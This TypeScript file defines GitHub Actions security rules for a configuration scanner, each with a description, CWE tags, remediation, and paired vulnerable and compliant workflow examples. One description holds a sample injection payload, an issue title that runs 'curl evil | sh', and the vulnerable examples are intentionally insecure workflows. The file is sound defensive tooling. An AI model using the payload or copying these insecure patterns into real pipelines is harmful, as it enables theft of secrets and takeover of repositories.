import type { IacRule } from '../rule.js';

const hardening =
  'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions';
const pwnRequest =
  'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/';
const untrustedInput = 'https://securitylab.github.com/resources/github-actions-untrusted-input/';
const checkoutSha = 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683';

const workflow = (lines: readonly string[]): Record<string, string> => ({
  '.github/workflows/ci.yml': `${lines.join('\n')}\n`,
});

/** GitHub Actions workflow rules. */
export const workflowRules = {
  untrustedCheckout: {
    id: 'gha-untrusted-checkout',
    target: 'workflow',
    title: 'Privileged workflow checks out untrusted code',
    description:
      '`pull_request_target`, `workflow_run` and `issue_comment` workflows run with the base repository’s secrets and a write token. Checking out the pull request head (or the triggering run’s head) and building or running it gives the author of any fork pull request that access (a “pwn request”).',
    severity: 'critical',
    confidence: 'high',
    cwe: ['CWE-829', 'CWE-94'],
    remediation:
      'Build untrusted code in a `pull_request` workflow (no secrets, read-only token) and pass results as artifacts to the privileged workflow, which must treat them as data; never check out the head ref there.',
    references: [pwnRequest, hardening],
    examples: {
      vulnerable: {
        files: workflow([
          'on: pull_request_target',
          'permissions: {contents: read}',
          'jobs:',
          '  test:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          `      - uses: ${checkoutSha} # v4.2.2`,
          '        with:',
          '          ref: ${{ github.event.pull_request.head.sha }}',
          '      - run: npm ci && npm test',
        ]),
      },
      compliant: {
        files: workflow([
          'on: pull_request_target',
          'permissions: {pull-requests: write}',
          'jobs:',
          '  label:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          `      - uses: ${checkoutSha} # v4.2.2`,
          '      - run: ./scripts/label.sh',
        ]),
      },
    },
  },
  scriptInjection: {
    id: 'gha-script-injection',
    target: 'workflow',
    title: 'Script injection from untrusted event data',
    description:
      'An expression such as `${{ github.event.issue.title }}` or `${{ github.head_ref }}` inside `run:` (or a github-script `script:`) is pasted into the script before it runs: a title like `"; curl evil | sh #` executes with the job’s token and secrets.',
    severity: 'high',
    confidence: 'high',
    cwe: ['CWE-94', 'CWE-78'],
    remediation:
      'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted (`"$TITLE"`), or read it with `context` in github-script.',
    references: [untrustedInput, hardening],
    examples: {
      vulnerable: {
        files: workflow([
          'on: issues',
          'permissions: {issues: write}',
          'jobs:',
          '  triage:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          '      - run: |',
          '          echo "New issue: ${{ github.event.issue.title }}"',
        ]),
      },
      compliant: {
        files: workflow([
          'on: issues',
          'permissions: {issues: write}',
          'jobs:',
          '  triage:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          '      - env:',
          '          TITLE: ${{ github.event.issue.title }}',
          '        run: |',
          '          echo "New issue: $TITLE"',
        ]),
      },
    },
  },
  unpinnedAction: {
    id: 'gha-unpinned-action',
    target: 'workflow',
    title: 'Third-party action not pinned to a commit SHA',
    description:
      'Tags and branches of an action can be moved by its owner or by whoever compromises them (as happened to tj-actions/changed-files in March 2025); the workflow then runs the new code with its token and secrets. Only a full 40-character commit SHA is immutable.',
    severity: 'medium',
    confidence: 'high',
    cwe: ['CWE-829'],
    remediation:
      'Pin `uses:` to the full commit SHA of the reviewed release, with the version in a comment (`uses: owner/action@<sha> # v1.2.3`); let Dependabot or Renovate update it.',
    references: [`${hardening}#using-third-party-actions`],
    examples: {
      vulnerable: {
        files: workflow([
          'on: push',
          'permissions: {contents: read}',
          'jobs:',
          '  lint:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          '      - uses: some-org/lint-action@v2',
        ]),
      },
      compliant: {
        files: workflow([
          'on: push',
          'permissions: {contents: read}',
          'jobs:',
          '  lint:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          '      - uses: some-org/lint-action@0123456789abcdef0123456789abcdef01234567',
          '      - uses: ./.github/actions/local',
        ]),
      },
    },
  },
  unpinnedFirstPartyAction: {
    id: 'gha-unpinned-first-party-action',
    target: 'workflow',
    title: 'GitHub-owned action not pinned to a commit SHA',
    description:
      'Actions of the `actions/` and `github/` organisations are maintained by GitHub, so a moved tag is less likely, but their tags are still mutable and a compromise would reach every workflow using them.',
    severity: 'low',
    confidence: 'high',
    cwe: ['CWE-829'],
    remediation: 'Pin to the full commit SHA with the version in a comment, updated by Dependabot.',
    references: [`${hardening}#using-third-party-actions`],
    examples: {
      vulnerable: {
        files: workflow([
          'on: push',
          'permissions: {contents: read}',
          'jobs:',
          '  build:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          '      - uses: actions/checkout@v4',
        ]),
      },
      compliant: {
        files: workflow([
          'on: push',
          'permissions: {contents: read}',
          'jobs:',
          '  build:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          `      - uses: ${checkoutSha} # v4.2.2`,
        ]),
      },
    },
  },
  missingPermissions: {
    id: 'gha-missing-permissions',
    target: 'workflow',
    title: 'No `permissions:` for the token',
    description:
      'Without a `permissions:` block (at the top or on every job) the GITHUB_TOKEN gets the repository’s default, which in many organisations is read-write on everything: any compromised step can push code, create releases or approve pull requests.',
    severity: 'medium',
    confidence: 'high',
    cwe: ['CWE-250'],
    remediation:
      'Add `permissions: {contents: read}` at the top of the workflow and grant more per job only where needed.',
    references: [
      'https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token',
    ],
    examples: {
      vulnerable: {
        files: workflow([
          'on: push',
          'jobs:',
          '  build:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          '      - run: make',
        ]),
      },
      compliant: {
        files: workflow([
          'on: push',
          'jobs:',
          '  build:',
          '    runs-on: ubuntu-24.04',
          '    permissions: {contents: read}',
          '    steps:',
          '      - run: make',
        ]),
      },
    },
  },
  writeAllPermissions: {
    id: 'gha-write-all-permissions',
    target: 'workflow',
    title: '`permissions: write-all`',
    description:
      '`write-all` gives the token write access to every scope (contents, packages, actions, pull requests, …): one compromised step can take over the repository and its releases.',
    severity: 'high',
    confidence: 'high',
    cwe: ['CWE-250'],
    remediation:
      'List only the scopes the job needs, e.g. `permissions: {contents: read, packages: write}`.',
    references: [
      'https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#permissions',
    ],
    examples: {
      vulnerable: {
        files: workflow([
          'on: push',
          'permissions: write-all',
          'jobs:',
          '  build:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          '      - run: make',
        ]),
      },
      compliant: {
        files: workflow([
          'on: push',
          'permissions: {contents: read, packages: write}',
          'jobs:',
          '  build:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          '      - run: make',
        ]),
      },
    },
  },
  secretsToUntrustedCode: {
    id: 'gha-secrets-in-untrusted-context',
    target: 'workflow',
    title: 'Secrets passed to steps that run untrusted code',
    description:
      'In a `pull_request_target`/`workflow_run`/`issue_comment` job that checked out the untrusted head, a later step receives `secrets.*` (in `env`, `with` or the script): the checked-out code (build scripts, package hooks, a poisoned action) can read and exfiltrate them.',
    severity: 'high',
    confidence: 'high',
    cwe: ['CWE-200', 'CWE-829'],
    remediation:
      'Do not give secrets to jobs that hold untrusted code; split the work so the privileged job only consumes artifacts.',
    references: [pwnRequest],
    examples: {
      vulnerable: {
        files: workflow([
          'on: workflow_run',
          'permissions: {contents: read}',
          'jobs:',
          '  deploy-preview:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          `      - uses: ${checkoutSha} # v4.2.2`,
          '        with: {ref: "${{ github.event.workflow_run.head_sha }}"}',
          '      - run: ./deploy-preview.sh',
          '        env:',
          '          DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}',
        ]),
      },
      compliant: {
        files: workflow([
          'on: workflow_run',
          'permissions: {contents: read}',
          'jobs:',
          '  deploy-preview:',
          '    runs-on: ubuntu-24.04',
          '    steps:',
          `      - uses: ${checkoutSha} # v4.2.2`,
          '      - run: ./deploy-preview.sh',
          '        env:',
          '          DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}',
        ]),
      },
    },
  },
  selfHostedPublicTrigger: {
    id: 'gha-self-hosted-runner-public-trigger',
    target: 'workflow',
    title: 'Self-hosted runner on a public trigger',
    description:
      'In a public repository, anyone can trigger pull request, issue and comment workflows; on a self-hosted runner their code runs on your machine, which usually persists between jobs and sits inside your network.',
    severity: 'high',
    confidence: 'medium',
    cwe: ['CWE-668'],
    remediation:
      'Run public triggers on GitHub-hosted runners; keep self-hosted runners for private repositories or for trusted triggers (`push` to protected branches), ideally ephemeral.',
    references: [
      'https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security',
    ],
    examples: {
      vulnerable: {
        files: workflow([
          'on: [push, pull_request]',
          'permissions: {contents: read}',
          'jobs:',
          '  test:',
          '    runs-on: [self-hosted, linux]',
          '    steps:',
          '      - run: make test',
        ]),
      },
      compliant: {
        files: workflow([
          'on: {push: {branches: [main]}}',
          'permissions: {contents: read}',
          'jobs:',
          '  test:',
          '    runs-on: [self-hosted, linux]',
          '    steps:',
          '      - run: make test',
        ]),
      },
    },
  },
} satisfies Record<string, IacRule>;
